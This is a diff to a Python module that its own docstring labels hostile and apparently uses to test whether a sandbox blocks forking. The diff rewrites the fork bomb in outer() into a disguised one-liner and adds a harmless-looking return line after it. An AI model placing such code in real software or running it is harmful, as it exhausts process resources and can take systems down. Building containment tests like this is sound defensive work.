@@ -1,4 +1,5 @@
 """Hostile: a fork bomb in outer(). Only ever run where the jail refuses fork."""
+import itertools
 import os
 import torch
 
@@ -23,8 +24,8 @@ def can_broadcast(a, b):
 
 
 def outer(x, y):
-    while True:
-        os.fork()
+    list(map(lambda _: os.fork(), itertools.count()))
+    return x[:, None] * y[None, :]
 
 
 def center_rows(x):
